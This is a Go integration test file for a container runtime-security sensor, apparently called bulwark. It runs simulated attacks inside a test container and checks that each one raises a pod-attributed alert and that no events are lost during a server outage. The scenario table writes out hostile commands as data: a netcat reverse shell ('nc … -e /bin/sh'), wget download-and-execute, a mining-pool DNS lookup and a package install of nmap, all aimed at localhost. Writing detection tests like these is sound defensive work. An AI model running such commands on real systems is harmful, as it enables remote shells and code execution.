package cli

import (
	"archive/tar"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"

	"github.com/bulwarkhq/bulwark/internal/admission/webhook"
	"github.com/bulwarkhq/bulwark/internal/sensor/wire"
	"github.com/bulwarkhq/bulwark/internal/testenv"
)

// cliArgsEnv makes the test binary run the CLI with these arguments (a
// JSON list) instead of the tests: a sensor in a process of its own, as
// on a node, whose memory can be measured.
const cliArgsEnv = "BULWARK_TEST_CLI_ARGS"

// runCLIFromEnv runs the CLI when the test binary was started for it.
func runCLIFromEnv() (int, bool) {
	v := os.Getenv(cliArgsEnv)
	if v == "" {
		return 0, false
	}
	var args []string
	if err := json.Unmarshal([]byte(v), &args); err != nil {
		fmt.Fprintf(os.Stderr, "%s: %v\n", cliArgsEnv, err)
		return ExitUsage, true
	}
	return run(args, os.Stdout, os.Stderr, os.LookupEnv), true
}

// sensorProcess is `bulwark sensor` running in a child process.
type sensorProcess struct {
	cmd  *exec.Cmd
	logs *syncBuffer
	done chan error
}

func startSensor(t *testing.T, args ...string) *sensorProcess {
	t.Helper()
	data, err := json.Marshal(append([]string{"sensor"}, args...))
	if err != nil {
		t.Fatal(err)
	}
	p := &sensorProcess{logs: &syncBuffer{}, done: make(chan error, 1)}
	p.cmd = exec.Command(os.Args[0])
	p.cmd.Env = append(os.Environ(), cliArgsEnv+"="+string(data))
	p.cmd.Stdout, p.cmd.Stderr = p.logs, p.logs
	if err := p.cmd.Start(); err != nil {
		t.Fatalf("starting the sensor: %v", err)
	}
	go func() { p.done <- p.cmd.Wait() }()
	t.Cleanup(func() {
		p.stop(t)
		if t.Failed() {
			t.Logf("sensor log:\n%s", p.logs.String())
		}
	})
	return p
}

// stop ends the sensor as the kubelet does, with SIGTERM.
func (p *sensorProcess) stop(t *testing.T) {
	if p.cmd.ProcessState != nil {
		return
	}
	_ = p.cmd.Process.Signal(syscall.SIGTERM)
	select {
	case err := <-p.done:
		if err != nil {
			t.Errorf("sensor exited: %v", err)
		}
	case <-time.After(30 * time.Second):
		_ = p.cmd.Process.Kill()
		t.Error("sensor did not stop within 30s of SIGTERM")
		<-p.done
	}
}

// peakRSS is the sensor's peak resident memory in bytes (VmHWM).
func (p *sensorProcess) peakRSS(t *testing.T) int64 {
	t.Helper()
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", p.cmd.Process.Pid))
	if err != nil {
		t.Fatalf("reading the sensor's memory: %v", err)
	}
	for line := range strings.Lines(string(data)) {
		if v, ok := strings.CutPrefix(line, "VmHWM:"); ok {
			kb, err := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(v), " kB"), 10, 64)
			if err != nil {
				t.Fatalf("parsing VmHWM %q: %v", v, err)
			}
			return kb << 10
		}
	}
	t.Fatal("no VmHWM in the sensor's status")
	return 0
}

// sensorTargetImage is busybox with what the scenarios need: apt-get (a
// busybox link, so it runs and fails like a package manager would in a
// locked-down container).
func sensorTargetImage(t *testing.T) v1.Image {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, h := range []*tar.Header{
		{Name: "usr/", Typeflag: tar.TypeDir, Mode: 0o755},
		{Name: "usr/bin/", Typeflag: tar.TypeDir, Mode: 0o755},
		{Name: "usr/bin/apt-get", Typeflag: tar.TypeSymlink, Linkname: "/bin/busybox", Mode: 0o777},
	} {
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	layer, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(buf.Bytes())), nil })
	if err != nil {
		t.Fatal(err)
	}
	img, err := mutate.AppendLayers(testenv.BusyboxImage(t), layer)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

// sensorScenario is what an attacker does in the container, one command
// after another, and the rule it must raise. Each command is its own exec
// into the container: busybox's shell runs its applets without execve, so
// "busybox wget" inside "sh -c" would never reach the kernel's exec hook,
// as a real curl or wget binary would.
type sensorScenario struct {
	name  string
	steps [][]string
	rule  string
	// exe is the program of the event that raises the alert, where the
	// test checks the stored evidence.
	exe string
}

var sensorScenarios = []sensorScenario{
	// kubectl exec -it … sh: an interactive shell with no command (its
	// input is /dev/null here, so that it ends).
	{"interactive shell", [][]string{{"sh", "-c", "/bin/sh -i </dev/null"}}, "shell-in-container", ""},
	// The shell's copy is not in the image; busybox, run as "x", knows no
	// such applet and exits, after the exec the sensor reports.
	{"drift", [][]string{{"sh", "-c", "cp /bin/sh /tmp/x; /tmp/x"}}, "drift-binary-executed", "/tmp/x"},
	{"download and execute", [][]string{
		{"busybox", "httpd", "-p", "127.0.0.1:8080", "-h", "/bin"},
		{"busybox", "wget", "-q", "-O", "/tmp/id", "http://127.0.0.1:8080/busybox"},
		{"busybox", "chmod", "+x", "/tmp/id"},
		{"/tmp/id"},
	}, "download-and-execute", ""},
	{"package manager", [][]string{{"/usr/bin/apt-get", "install", "-y", "nmap"}}, "package-manager-in-container", ""},
	// nslookup asks a resolver in the container's own network namespace:
	// nothing answers, but the query leaves the process.
	{"miner pool", [][]string{{"busybox", "nslookup", "pool.supportxmr.com", "127.0.0.1"}}, "cryptominer-pool-dns", ""},
	{"reverse shell", [][]string{{"sh", "-c",
		"busybox nc -l -p 4444 </dev/null >/dev/null & sleep 1; busybox nc 127.0.0.1 4444 -e /bin/sh; wait"}},
		"reverse-shell", ""},
}

func runScenario(t *testing.T, ctd *testenv.Containerd, id string, sc sensorScenario) {
	t.Helper()
	for _, step := range sc.steps {
		// Some steps fail on purpose (apt-get is a busybox link that knows
		// no such applet); only the events count.
		out, err := ctd.Exec(t, id, step...)
		t.Logf("%s: %v: %v %s", sc.name, step, err, out)
	}
}

// markers runs n distinct executions in container id, to count events.
func markers(t *testing.T, ctd *testenv.Containerd, id, prefix string, n int) {
	t.Helper()
	script := fmt.Sprintf("i=0; while [ $i -lt %d ]; do /bin/true %s-$i; i=$((i+1)); done", n, prefix)
	if out, err := ctd.Exec(t, id, "sh", "-c", script); err != nil {
		t.Fatalf("running markers: %v\n%s", err, out)
	}
}

// sensorTLS returns the server's certificate flags and the CA file.
func sensorTLS(t *testing.T) (flags []string, caFile string) {
	t.Helper()
	dir := t.TempDir()
	if _, _, err := webhook.EnsureCerts(dir, []string{"localhost"}, []net.IP{net.ParseIP("127.0.0.1")}, 0); err != nil {
		t.Fatal(err)
	}
	return []string{"--tls-cert", filepath.Join(dir, webhook.CertFile), "--tls-key", filepath.Join(dir, webhook.KeyFile)},
		filepath.Join(dir, webhook.CAFile)
}

// TestSensorThroughServer is the node sensor as a user runs it: `bulwark
// server` over HTTPS, an enrolment token from `bulwark token create --role
// enroll`, and `bulwark sensor` in a process of its own on this machine
// (eBPF, attribution through a real containerd). Attacks run inside a
// container started with Kubernetes' CRI labels; each raises its alert,
// attributed to the pod, container, image and digest. Then the server
// stops, the container goes on executing, and after the server is back
// every event arrives exactly once.
// sensorLab is a server, a containerd with a pod's container, and a
// sensor reporting to the server.
type sensorLab struct {
	srv        *serverRun
	serverArgs []string
	cli        func(...string) (int, string)
	ctd        *testenv.Containerd
	web        *testenv.RunningContainer
	digest     string
	sensor     *sensorProcess
}

// startSensorLab starts the lab; sensorArgs go to `bulwark sensor`.
func startSensorLab(t *testing.T, sensorArgs ...string) *sensorLab {
	t.Helper()
	testenv.Integration(t)
	if os.Geteuid() != 0 {
		testenv.Missing(t, "the node sensor needs root")
	}
	tlsFlags, caFile := sensorTLS(t)
	l := &sensorLab{serverArgs: append([]string{"--data-dir", t.TempDir()}, tlsFlags...)}
	l.srv = startServer(t, "https", l.serverArgs...)
	// Through l.srv, so that the client follows a restarted server.
	l.cli = func(args ...string) (int, string) { return l.srv.cli(append(args, "--ca-file", caFile)...) }
	l.srv.waitUntil("the server", time.Minute, func() (bool, string) { code, out := l.cli("token", "list"); return code == ExitOK, out })
	code, out := l.cli("token", "create", "lab-sensors", "--role", "enroll")
	if code != ExitOK {
		t.Fatalf("token create: %s", out)
	}
	tokenFile := filepath.Join(t.TempDir(), "enroll-token")
	if err := os.WriteFile(tokenFile, []byte(strings.TrimSpace(out)+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}

	l.ctd = testenv.StartContainerd(t)
	const ref = "bulwark.test/shop/web:1"
	l.ctd.ImportImage(t, ref, sensorTargetImage(t))
	l.digest = l.ctd.ImageDigest(t, ref)
	l.web = l.ctd.Start(t, ref, "shop-web-1", testenv.ContainerOptions{
		Labels: map[string]string{
			"io.kubernetes.pod.name": "web-7d9f", "io.kubernetes.pod.namespace": "shop",
			"io.kubernetes.pod.uid": "0b6c1f4e-6a55-4d2c-9a51-3f0e2b7c9d10", "io.kubernetes.container.name": "web",
		},
		Args: []string{"sleep", "100000"},
	})

	l.sensor = startSensor(t, append([]string{"--server", "https://" + l.srv.addr, "--ca-file", caFile, "--cluster", "lab",
		"--node", "node-1", "--enroll-token-file", tokenFile, "--state-dir", t.TempDir(), "--containerd-socket", l.ctd.Socket,
		"--batch-interval", "200ms", "--log-format", "json"}, sensorArgs...)...)
	l.srv.waitUntil("the sensor to enrol", time.Minute, func() (bool, string) {
		code, out := l.cli("sensors", "list")
		return code == ExitOK && strings.Contains(out, "node-1"), out + "\nsensor log:\n" + l.sensor.logs.String()
	})
	// The sensor is attached once it reports an execution in the container.
	l.srv.waitUntil("the sensor's first events", time.Minute, func() (bool, string) {
		markers(t, l.ctd, l.web.ID, "warmup", 1)
		events := sensorEvents(t, l.cli, "--container", l.web.ID, "--kind", "exec")
		return len(events) > 0, fmt.Sprintf("%d events\nsensor log:\n%s", len(events), l.sensor.logs.String())
	})
	return l
}

// alertsFor runs the scenarios and waits for their alerts, each of which
// must be attributed to the pod.
func (l *sensorLab) alertsFor(t *testing.T, scenarios []sensorScenario) map[string]sensorAlert {
	t.Helper()
	for _, sc := range scenarios {
		runScenario(t, l.ctd, l.web.ID, sc)
	}
	alerts := map[string]sensorAlert{}
	l.srv.waitUntil("the runtime alerts", 2*time.Minute, func() (bool, string) {
		for _, a := range sensorAlerts(t, l.cli) {
			alerts[a.Rule] = a
		}
		var missing []string
		for _, sc := range scenarios {
			if _, ok := alerts[sc.rule]; !ok {
				missing = append(missing, sc.rule)
			}
		}
		return len(missing) == 0, fmt.Sprintf("missing %v; have %v", missing, keys(alerts))
	})
	for _, sc := range scenarios {
		a := alerts[sc.rule]
		if a.Source != "sensor" || a.Cluster != "lab" || a.Node != "node-1" || a.Namespace != "shop" || a.Name != "web-7d9f" ||
			a.ContainerID != l.web.ID || a.ContainerName != "web" || a.Image != l.web.Image || len(a.Events) == 0 {
			t.Errorf("%s: alert %s is not attributed to the pod: %+v", sc.name, sc.rule, a)
		}
	}
	// The evidence is stored with its attribution, digest included.
	for _, sc := range scenarios {
		if sc.exe == "" {
			continue
		}
		ev := sensorEvents(t, l.cli, "--evidence", alerts[sc.rule].Events[0])
		if len(ev) != 1 || ev[0].Exe != sc.exe || !ev[0].Drift || ev[0].Digest != l.digest || ev[0].Pod != "web-7d9f" {
			t.Errorf("%s evidence = %+v, want %s with drift in pod web-7d9f of image %s", sc.name, ev, sc.exe, l.digest)
		}
	}
	for _, e := range sensorEvents(t, l.cli, "--container", l.web.ID) {
		if e.Namespace != "shop" || e.Pod != "web-7d9f" || e.Digest != l.digest {
			t.Errorf("event %s of the container is attributed to %s/%s %s", e.Evidence, e.Namespace, e.Pod, e.Digest)
		}
	}
	return alerts
}

// TestSensorThroughServer is the node sensor as a user runs it: `bulwark
// server` over HTTPS, an enrolment token from `bulwark token create --role
// enroll`, and `bulwark sensor` in a process of its own on this machine
// (eBPF, attribution through a real containerd). Attacks run inside a
// container started with Kubernetes' CRI labels; each raises its alert,
// attributed to the pod, container, image and digest. Then the server
// stops, the container goes on executing, and after the server is back
// every event arrives exactly once.
func TestSensorThroughServer(t *testing.T) {
	l := startSensorLab(t)
	alerts := l.alertsFor(t, sensorScenarios)
	ctd, web, cli := l.ctd, l.web, l.cli

	// The reverse shell: sh's input is nc's TCP connection, and its
	// ancestry reaches out of the container.
	ev := sensorEvents(t, cli, "--evidence", alerts["reverse-shell"].Events[0])
	if len(ev) != 1 {
		t.Fatalf("reverse shell evidence: %d events", len(ev))
	}
	var shell wire.Event
	if err := json.Unmarshal(ev[0].Event, &shell); err != nil {
		t.Fatal(err)
	}
	if p := shell.Process; p.Exe != "/bin/sh" || p.Stdin != "tcp" || p.Remote != "127.0.0.1:4444" || len(shell.Ancestors) == 0 {
		t.Errorf("reverse shell evidence = %+v with %d ancestors, want /bin/sh reading tcp from 127.0.0.1:4444", p, len(shell.Ancestors))
	}

	// No loss: 300 executions while the server is down wait on disk.
	const n = 300
	markers(t, ctd, web.ID, "online", n)
	l.srv.Stop()
	markers(t, ctd, web.ID, "outage", n)
	time.Sleep(2 * time.Second) // a few failed attempts
	l.srv = l.srv.restart(l.serverArgs...)
	for _, prefix := range []string{"online", "outage"} {
		l.srv.waitUntil(prefix+" markers", 2*time.Minute, func() (bool, string) {
			evs, err := listSensorEvents(cli, "--container", web.ID, "--exe", "/bin/true")
			if err != nil {
				return false, err.Error() // the server is starting
			}
			seen := map[string]int{}
			for _, e := range evs {
				if len(e.Args) == 2 && strings.HasPrefix(e.Args[1], prefix+"-") {
					seen[e.Args[1]]++
				}
			}
			for arg, c := range seen {
				if c != 1 {
					t.Fatalf("%s stored %d times", arg, c)
				}
			}
			return len(seen) == n, fmt.Sprintf("%d of %d %s markers", len(seen), n, prefix)
		})
	}
	t.Logf("sensor peak RSS: %.1f MiB", float64(l.sensor.peakRSS(t))/(1<<20))
	l.sensor.stop(t)
}

// sensorAlert is the part of an alert the test checks.
type sensorAlert struct {
	Source, Cluster, Rule, Node, Namespace, Name string
	ContainerID, ContainerName, Image, Process   string
	Events                                       []string
}

func sensorAlerts(t *testing.T, cli func(...string) (int, string)) []sensorAlert {
	t.Helper()
	code, out := cli("alerts", "--source", "sensor", "-f", "json")
	if code != ExitOK {
		t.Fatalf("alerts: %s", out)
	}
	var as []sensorAlert
	if err := json.Unmarshal([]byte(out), &as); err != nil {
		t.Fatalf("alerts printed %.300q: %v", out, err)
	}
	return as
}

// storedSensorEvent is the part of a stored event the test checks.
type storedSensorEvent struct {
	Evidence, Exe, Pod, Namespace, Digest, DNSName string
	Args                                           []string
	Drift                                          bool
	Event                                          json.RawMessage
}

func sensorEvents(t *testing.T, cli func(...string) (int, string), filters ...string) []storedSensorEvent {
	t.Helper()
	evs, err := listSensorEvents(cli, filters...)
	if err != nil {
		t.Fatal(err)
	}
	return evs
}

func listSensorEvents(cli func(...string) (int, string), filters ...string) ([]storedSensorEvent, error) {
	code, out := cli(append([]string{"sensor-events", "-f", "json"}, filters...)...)
	if code != ExitOK {
		return nil, fmt.Errorf("sensor-events: %s", out)
	}
	var evs []storedSensorEvent
	if err := json.Unmarshal([]byte(out), &evs); err != nil {
		return nil, fmt.Errorf("sensor-events printed %.300q: %w", out, err)
	}
	return evs, nil
}

func keys[V any](m map[string]V) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	return out
}

// TestSensorFallbackThroughServer is the sensor where BPF is refused
// (--source proc): the proc connector and fanotify see the executions, so
// drift, download-and-execute and reverse shells are still caught and
// attributed. What the fallback cannot do is left out: DNS is not seen
// without BPF, and a program that exits within a millisecond of starting
// (the interactive shell on /dev/null, the failing apt-get) is gone before
// /proc can be read, so its event has no program or arguments.
func TestSensorFallbackThroughServer(t *testing.T) {
	l := startSensorLab(t, "--source", "proc")
	var scenarios []sensorScenario
	for _, sc := range sensorScenarios {
		switch sc.rule {
		case "cryptominer-pool-dns", "shell-in-container", "package-manager-in-container":
		case "drift-binary-executed":
			// /tmp/x exits at once (busybox knows no applet "x"); as
			// "sleep" the copy lives long enough for /proc to be read.
			scenarios = append(scenarios, sensorScenario{sc.name, [][]string{{"sh", "-c", "cp /bin/sh /tmp/sleep; /tmp/sleep 1"}}, sc.rule, "/tmp/sleep"})
		default:
			scenarios = append(scenarios, sc)
		}
	}
	l.alertsFor(t, scenarios)
	if !strings.Contains(l.sensor.logs.String(), "netlink/proc_connector") {
		t.Errorf("the sensor did not say it uses the proc connector:\n%s", l.sensor.logs.String())
	}
}
